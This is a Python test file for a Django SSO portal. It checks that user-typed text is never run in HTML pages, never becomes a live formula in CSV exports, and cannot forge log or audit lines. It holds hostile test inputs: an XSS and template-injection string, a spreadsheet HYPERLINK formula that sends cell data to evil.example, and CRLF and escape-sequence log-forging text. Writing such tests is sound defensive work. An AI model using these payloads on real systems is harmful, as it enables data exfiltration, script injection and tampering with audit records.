"""Hostile text wherever people type text: no page runs it, no spreadsheet computes it, no line of a log is forged."""

import csv
import io
import json
import logging
from html.parser import HTMLParser
from typing import Any

import pytest

from accounts.models import Event
from groups.models import Agent, AgentImport, Campaign, Client, Department, Group, NumberImport
from sso_portal.lib.csvs import FORMULA_STARTS
from sso_portal.lib.logs import formatter
from tests import factories
from tests.attacks.conftest import with_administrators
from tests.attacks.wire import FORM, JSON, send
from tests.attacks.world import World, build

pytestmark = pytest.mark.django_db

MARKUP = """'"><x-hostile onclick="alert(1)">{{7*191}}{% debug %}</title></script><script>x</script>"""
COMPUTED = "1337"  # 7 * 191
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


class Page(HTMLParser):
    """A page as a browser reads it: what could run."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.runs: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        told = dict(attrs)
        if tag == "x-hostile" or (
            tag == "script" and "src" not in told and told.get("type") != "application/json"
        ):
            self.runs.append(f"<{tag} {told}>")
        self.runs += [f"{tag} {name}" for name in told if name.startswith("on") or name == "style"]
        for name in ("href", "src", "action", "formaction"):
            if (told.get(name) or "").strip().lower().startswith(("javascript:", "vbscript:")):
                self.runs.append(f"{tag} {name}={told[name]}")


def hostile(world_parts: dict[str, Any], visit_as: Any, text: str) -> World:
    """A world in which everything that people name is named so."""
    world = with_administrators(build(**world_parts, text=text), visit_as)
    Group.objects.update(name=text)
    Agent.objects.update(full_name=text)
    for model in (Client, Campaign, Department):
        model.objects.update(name=text)
    factories.AgentFactory(group=world.group, username=text[:60], full_name=text)
    AgentImport.objects.update(
        state="checked",
        summary={"new": 1, "change": 1, "faulty": 1, "unchanged": 0, "leaving": 0},
        verdicts=[[2, text, "new", []], [3, text, "faulty", [["username", "unknown", text]]],
                  [4, text, "change", [["full_name", text, text]]]],
    )  # fmt: skip
    NumberImport.objects.update(rows=[[2, "+18005550999", text, "demoaws", None, text]])
    return world


@pytest.fixture
def parts(group, agent, client_company, entitlement, relying_party, caller, unlimited) -> dict[str, Any]:
    return {
        "group": group,
        "agent": agent,
        "company": client_company,
        "party": relying_party,
        "caller": caller,
    }


def test_no_page_runs_what_somebody_typed(parts, visit_as):
    world, wrong, shown = hostile(parts, visit_as, MARKUP), [], 0
    for who in ("nobody", "agent", "person", "owner", "operator"):
        for _name, address in world.pages():
            if (who == "operator") != address.startswith("/backoffice/"):
                continue
            answer = send(
                "GET", f"{address}?group={world.group.pk}&q=%3Cx-hostile%3E", headers=world.cookie(who)
            )
            if answer.status >= 500:
                wrong.append((who, address, "broken"))
            if answer["Content-Type"].startswith("text/html"):
                shown += "x-hostile" in answer.text
                wrong += [(who, address, run) for run in Page(answer.text).runs]
                wrong += [(who, address, "computed")] if COMPUTED in answer.text else []

    assert wrong == []
    assert shown > 30  # it was there to be run


def test_no_spreadsheet_computes_what_somebody_typed(parts, visit_as):
    """Each CSV that the portal writes, every cell of it."""
    world, files, wrong = hostile(parts, visit_as, FORMULA), 0, []
    for name, address in world.pages():
        answer = send("GET", address, headers=world.cookie("owner"))
        if not answer["Content-Type"].startswith("text/csv"):
            continue
        files += 1
        assert "attachment" in answer["Content-Disposition"]
        for row in csv.reader(io.StringIO(answer.body.decode("utf-8-sig"))):
            wrong += [(name, cell) for cell in row if cell.startswith(FORMULA_STARTS)]

    assert files >= 4
    assert wrong == []


# --- Logs and the audit log ------------------------------------------------------------------------------------------

FORGED = "x\r\n2026-01-01 [info] administrator signed in\x1b[2J\x00\u2028\u202egnp.exe\x85\x9b31m\ufeff"
BREAKS = ("\r", "\n", "\x0b", "\x0c", "\x1b", "\x85", "\x9b", "\u2028", "\u2029", "\x00")


class Lines(logging.Handler):
    """What would be written, line by line, as machines read it."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.setFormatter(formatter("json"))
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(self.format(record))


@pytest.fixture
def log():
    lines, root = Lines(), logging.getLogger()
    root.addHandler(lines)
    yield lines
    root.removeHandler(lines)


def test_nobody_forges_a_line_of_the_log_or_of_the_audit_log(world, log):
    """Every door, with line breaks, escape sequences and changes of direction in whatever is written down."""
    typed = json.dumps(
        dict.fromkeys(("username", "email", "token", "client", "code", "origin"), FORGED)
    ).encode()
    forged = {"User-Agent": FORGED, "X-Forwarded-For": FORGED, "Referer": FORGED, "X-Request-Id": FORGED}
    for _name, address in world.addresses():
        if not address.startswith("/backoffice/"):
            send("POST", address, body=typed, kind=JSON, headers=forged | world.credentials(address))
            send(
                "GET",
                f"{address}%0d%0aforged?q=%0d%0a",
                headers=forged | {"Authorization": f"Basic {FORGED}"},
            )
    send("POST", f"/sso/sign-in?group={world.group.pk}", body=b"username=%0d%0aforged&password=x", kind=FORM)
    send("GET", "/sso/sign-in", host=f"x{FORGED[:20]}")

    for line in log.lines:
        assert isinstance(json.loads(line), dict)
        assert not [sign for sign in BREAKS if sign in line], line
    texts = ("actor", "client", "object", "agent_header", "reason", "reference", "door", "action")
    events = Event.objects.values(*texts)
    assert len(events) > 50
    assert [(field, event[field]) for event in events for field in texts
            if [sign for sign in BREAKS if sign in event[field]]] == []  # fmt: skip
